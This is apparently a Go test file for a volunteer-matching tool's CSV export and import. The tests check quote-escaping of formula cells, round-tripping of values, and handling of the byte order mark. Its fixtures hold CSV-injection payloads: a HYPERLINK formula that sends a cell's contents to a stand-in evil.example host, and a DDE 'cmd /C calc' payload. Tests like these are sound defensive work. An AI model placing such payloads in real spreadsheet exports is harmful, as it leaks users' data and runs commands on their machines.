package datasets_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"volmatch"
	"volmatch/datasets"
	"volmatch/internal/fixture"
	"volmatch/taxonomy"
)

// readCells parses an export as a spreadsheet would, after its byte order
// mark, and returns the rows by column name.
func readCells(t *testing.T, b []byte) []map[string]string {
	t.Helper()
	if !bytes.HasPrefix(b, []byte("\uFEFF")) {
		t.Fatalf("the CSV export starts with %q, want the UTF-8 byte order mark", b[:min(len(b), 8)])
	}
	recs, err := csv.NewReader(bytes.NewReader(b[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var out []map[string]string
	for _, r := range recs[1:] {
		m := map[string]string{}
		for i, h := range recs[0] {
			m[h] = r[i]
		}
		out = append(out, m)
	}
	return out
}

// TestCSVInjection: a cell a spreadsheet would run as a formula is written
// with a quote before it (OWASP's CSV injection advice), and reads back as
// it was.
func TestCSVInjection(t *testing.T) {
	v := fixture.Volunteer("V1")
	v.Name = `=HYPERLINK("http://evil.example/?d="&A1,"点我")`
	v.Phone = "+8613800000000"
	v.Bio = "@SUM(1+1)*cmd|' /C calc'!A0"
	var b bytes.Buffer
	if err := datasets.WriteVolunteers(&b, datasets.FormatCSV, []*volmatch.Volunteer{v}); err != nil {
		t.Fatal(err)
	}
	row := readCells(t, b.Bytes())[0]
	for col, want := range map[string]string{
		"name":  `'=HYPERLINK("http://evil.example/?d="&A1,"点我")`,
		"phone": "'+8613800000000",
		"bio":   "'@SUM(1+1)*cmd|' /C calc'!A0",
		"id":    "V1",
	} {
		if row[col] != want {
			t.Errorf("exported %s cell = %q, want %q", col, row[col], want)
		}
	}
}

// TestCSVEscapeRoundTrip: every value, also one that begins like an
// escaped cell, is exported so that no cell starts a formula, and imports
// back equal.
func TestCSVEscapeRoundTrip(t *testing.T) {
	tax := taxonomy.Load()
	texts := []string{
		"=1+2", "+1", "-1", "@x", "\tcell", "\rcell", "'=already quoted", "''=two quotes", "'plain quote",
		"'", "''", "-", "=", "普通文本", "", "a=b", "'-'",
	}
	var vs []*volmatch.Volunteer
	var ns []*volmatch.Need
	for i, s := range texts {
		v := fixture.Volunteer(string(rune('A'+i)) + "1")
		v.Bio = s
		if s != "" && strings.TrimSpace(s) == s { // the importer trims a name (not a bio)
			v.Name = s
		}
		vs = append(vs, v)
		n := fixture.Need(string(rune('A'+i)) + "1")
		n.Description = s
		if strings.TrimSpace(s) != "" {
			n.Title = s
		}
		n.Recipient = &volmatch.RecipientPreferences{Notes: s}
		if s == "" {
			n.Recipient = nil
		}
		ns = append(ns, n)
	}
	var vb, nb bytes.Buffer
	if err := datasets.WriteVolunteers(&vb, datasets.FormatCSV, vs); err != nil {
		t.Fatal(err)
	}
	if err := datasets.WriteNeeds(&nb, datasets.FormatCSV, ns); err != nil {
		t.Fatal(err)
	}
	for _, rows := range [][]map[string]string{readCells(t, vb.Bytes()), readCells(t, nb.Bytes())} {
		for _, r := range rows {
			for col, c := range r {
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					t.Errorf("exported cell %s = %q starts a formula", col, c)
				}
			}
		}
	}
	gotV, err := datasets.Read(bytes.NewReader(vb.Bytes()), "volunteers.csv", tax.Has)
	if err != nil {
		t.Fatalf("Read(volunteers.csv): %v", err)
	}
	gotN, err := datasets.Read(bytes.NewReader(nb.Bytes()), "needs.csv", tax.Has)
	if err != nil {
		t.Fatalf("Read(needs.csv): %v", err)
	}
	for i := range vs {
		if gotV.Volunteers[i].Name != vs[i].Name || gotV.Volunteers[i].Bio != vs[i].Bio {
			t.Errorf("volunteer %d read back name %q bio %q, want %q %q", i, gotV.Volunteers[i].Name, gotV.Volunteers[i].Bio, vs[i].Name, vs[i].Bio)
		}
		if g, w := jsonOf(t, ns[i]), jsonOf(t, gotN.Needs[i]); g != w {
			t.Errorf("need %d read back\n got  %s\n want %s", i, w, g)
		}
	}
}

// TestCSVExportImportEqual: a whole volunteer with a formula for a name and
// a negative coordinate exports and imports equal.
func TestCSVExportImportEqual(t *testing.T) {
	v := fixture.Volunteer("V1")
	v.Name = "=HYPERLINK(\"http://evil.example\",\"x\")"
	v.Home.Lng = -0.1276 // a negative number cell: '-0.1276 in the file
	v.Bio = "-负责人\n+备注"
	var b bytes.Buffer
	if err := datasets.WriteVolunteers(&b, datasets.FormatCSV, []*volmatch.Volunteer{v}); err != nil {
		t.Fatal(err)
	}
	got, err := datasets.Read(bytes.NewReader(b.Bytes()), "volunteers.csv", taxonomy.Load().Has)
	if err != nil {
		t.Fatalf("Read: %v", err)
	}
	if g, w := jsonOf(t, got.Volunteers[0]), jsonOf(t, v); g != w {
		t.Errorf("export then import:\n got  %s\n want %s", g, w)
	}
}

// TestCSVImportBOM: a file with or without a byte order mark imports the
// same (spreadsheets save one).
func TestCSVImportBOM(t *testing.T) {
	v := fixture.Volunteer("V1")
	var b bytes.Buffer
	if err := datasets.WriteVolunteers(&b, datasets.FormatCSV, []*volmatch.Volunteer{v}); err != nil {
		t.Fatal(err)
	}
	with := b.Bytes()
	without := bytes.TrimPrefix(with, []byte("\uFEFF"))
	// A spreadsheet may quote the header cells too.
	quotedHeader := append([]byte("\uFEFF\"id\""), without[2:]...)
	for name, file := range map[string][]byte{"with": with, "without": without, "quoted header": quotedHeader} {
		got, err := datasets.Read(bytes.NewReader(file), "volunteers.csv", taxonomy.Load().Has)
		if err != nil {
			t.Errorf("Read(%s BOM) = %v", name, err)
			continue
		}
		if len(got.Volunteers) != 1 || got.Volunteers[0].ID != "V1" {
			t.Errorf("Read(%s BOM) = %d volunteers, want V1", name, len(got.Volunteers))
		}
	}
}

func jsonOf(t *testing.T, x any) string {
	t.Helper()
	b, err := json.Marshal(x)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}
